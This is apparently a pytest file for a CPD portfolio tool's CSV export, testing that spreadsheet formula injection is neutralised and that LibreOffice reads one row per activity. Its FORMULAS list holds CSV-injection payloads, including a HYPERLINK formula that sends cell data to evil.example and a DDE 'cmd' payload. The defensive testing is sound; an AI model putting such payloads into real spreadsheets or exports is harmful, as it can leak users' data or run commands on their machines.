"""The CSV record: one row per activity, safe in a spreadsheet, read by Excel and LibreOffice.

See docs/developers/security.md."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cpdgen.csvfile import COLUMNS, activities_csv, diploma_csv, neutralise, unneutralise
from cpdgen.loader import load_portfolio

AS_OF = date(2025, 7, 1)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+SUM(1,1)",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
]


def read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def judged(root: Path):
    portfolio = load_portfolio(root)
    assert not [p for p in portfolio.problems if p.severity == "error"], portfolio.problems
    return portfolio, portfolio.assess(AS_OF)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_neutralised_and_restored(text):
    cell = neutralise(text)
    assert cell == "'" + text
    assert unneutralise(cell) == text


@pytest.mark.parametrize("text", ["Audit", "2024-03-21", "1.5", "'quoted' word", "", "a=b", "café – “smart” 😀"])
def test_ordinary_cells_are_untouched(text):
    assert neutralise(text) == text
    assert unneutralise(text) == text


@given(st.text(max_size=30))
def test_neutralising_can_always_be_undone_and_never_leaves_a_trigger(text):
    cell = neutralise(text)
    assert unneutralise(cell) == text
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
    assert not (cell[:1] == " " and cell.lstrip(" ")[:1] in ("=", "+", "-", "@"))


def test_columns_one_row_per_activity_and_excel_friendly_bytes(portfolio):
    portfolio.activity(
        "2025-03-01-rca",
        title="Root-cause analysis, “WBIT” incident; Müller & Ødegård",
        date="2025-03-01",
        start="2025-02-27",
        hours=3.5,
        tags=["transfusion", "quality"],
        standards=[3, 4],
        evidence=["https://www.shotuk.org/"],
        body='line1\nline2, with comma and "quotes"',
    )
    portfolio.activity("2025-04-01-private", date="2025-04-01", private=True, type="audit", category=None)
    data = activities_csv(*judged(portfolio.root), public=False)
    assert data.startswith(b"\xef\xbb\xbfid,title,start,date,")
    assert data.endswith(b"\r\n")
    rows = read(data)
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == 2
    first = rows[0]
    assert first["title"] == "Root-cause analysis, “WBIT” incident; Müller & Ødegård"
    assert (first["start"], first["date"], first["hours"]) == ("2025-02-27", "2025-03-01", "3.5")
    assert first["tags"] == "transfusion; quality" and first["standards"] == "3; 4"
    assert first["description"] == 'line1\nline2, with comma and "quotes"'
    assert first["reflection"].startswith("What happened:")
    assert first["evidence"] == "https://www.shotuk.org/"
    assert (first["counts"], first["reason"], first["diploma"], first["private"]) == ("yes", "", "diploma-1", "no")
    second = rows[1]
    assert (second["category"], second["type"], second["private"]) == ("work-based-learning", "audit", "yes")


def test_formula_titles_and_reflections_arrive_neutralised(portfolio):
    for n, text in enumerate(FORMULAS):
        portfolio.activity(f"f{n}", title=text.strip() or "x", date="2025-03-01", reflection=text + " and more words")
    rows = read(activities_csv(*judged(portfolio.root), public=False))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("title", "reflection"):
            value = row[column]
            assert value[:1] not in "=+-@\t\r" or value == "", value
            assert value.lstrip(" ")[:1] not in "=+-@" or value.startswith("'"), value
    assert {row["hours"] for row in rows} == {""}


def test_hours_stay_numbers(portfolio):
    portfolio.activity("a", date="2025-03-01", hours=1.5)
    portfolio.activity("b", date="2025-03-02", hours=10)
    rows = read(activities_csv(*judged(portfolio.root), public=False))
    assert [r["hours"] for r in rows] == ["1.5", "10"]


def test_public_csv_leaves_out_private_and_drafts_and_says_so(portfolio):
    portfolio.activity("a", date="2025-03-01", title="Shown")
    portfolio.activity("b", date="2025-03-02", title="Hidden one", private=True)
    portfolio.activity("c", date="2025-03-03", title="Hidden two", private=True)
    portfolio.activity("d", date="2025-03-04", title="Not yet", draft=True)
    data = diploma_csv(*judged(portfolio.root), "diploma-1", public=True)
    rows = read(data)
    assert [r["title"] for r in rows] == [
        "Shown",
        "2 private activities and 1 draft are left out of this public record.",
    ]
    assert rows[1]["id"] == ""
    assert b"Hidden" not in data and b"Not yet" not in data
    complete = read(diploma_csv(*judged(portfolio.root), "diploma-1", public=False))
    assert [r["title"] for r in complete] == ["Shown", "Hidden one", "Hidden two", "Not yet"]


def test_the_same_input_gives_the_same_bytes(portfolio):
    portfolio.many(5)
    first = activities_csv(*judged(portfolio.root), public=True)
    assert activities_csv(*judged(portfolio.root), public=True) == first


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_one_row_per_activity_and_runs_no_formula(portfolio, tmp_path):
    for n, text in enumerate(FORMULAS):
        portfolio.activity(
            f"f{n}",
            title=f"{text} title",
            date=f"2025-03-{n + 1:02}",
            body=f'{text}\nsecond line, with comma and "quotes"\n\nthird paragraph: café – “smart” 😀',
        )
    source = tmp_path / "in" / "activities.csv"
    source.parent.mkdir()
    source.write_bytes(activities_csv(*judged(portfolio.root), public=False))
    out = tmp_path / "out"
    # Import as UTF-8 CSV (76), comma-separated; write the cells back out tab-separated as LibreOffice sees them.
    result = subprocess.run(
        [
            "soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
            "--infilter=CSV:44,34,76,1", "--convert-to", "csv:Text - txt - csv (StarCalc):9,34,76,1",
            "--outdir", str(out), str(source),
        ],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    seen = list(
        csv.reader(io.StringIO((out / "activities.csv").read_text(encoding="utf-8"), newline=""), delimiter="\t")
    )
    written = list(csv.reader(io.StringIO(source.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(seen) == 1 + len(FORMULAS)
    assert seen == written  # every cell read back as the text written: one row per activity, nothing evaluated
    titles = [row[COLUMNS.index("title")] for row in seen[1:]]
    assert all(title.startswith("'") for title in titles)
    description = seen[1][COLUMNS.index("description")]
    assert 'second line, with comma and "quotes"' in description and "café – “smart” 😀" in description


@pytest.mark.parametrize("publish", [{}, {"reflections": False, "evidence": False}])
def test_rows_formatted_once_for_several_csvs_are_the_same_bytes(portfolio, publish):
    portfolio.settings(
        {"member": {"name": "A"}, "diplomas": [{"start": "2024-01-01"}], **({"publish": publish} if publish else {})}
    )
    portfolio.write("evidence/cert.txt", "x")
    portfolio.activity("2025-01-10-a", date="2025-01-10", title="=1+1", evidence=["cert.txt"])
    portfolio.activity("2025-02-10-b", date="2025-02-10", private=True)
    portfolio.activity("2025-03-10-c", date="2025-03-10", draft=True, reflection=None)
    loaded, assessment = judged(portfolio.root)
    lines: dict = {}
    shared = [
        diploma_csv(loaded, assessment, "diploma-1", public=True, lines=lines),
        activities_csv(loaded, assessment, public=True, lines=lines),
        activities_csv(loaded, assessment, public=False, lines=lines),
        diploma_csv(loaded, assessment, "diploma-1", public=False, lines=lines),
        activities_csv(loaded, assessment, loaded.activities[:1], public=True, lines=lines),
    ]
    alone = [
        diploma_csv(loaded, assessment, "diploma-1", public=True),
        activities_csv(loaded, assessment, public=True),
        activities_csv(loaded, assessment, public=False),
        diploma_csv(loaded, assessment, "diploma-1", public=False),
        activities_csv(loaded, assessment, loaded.activities[:1], public=True),
    ]
    assert shared == alone
    assert lines  # the rows were kept for reuse
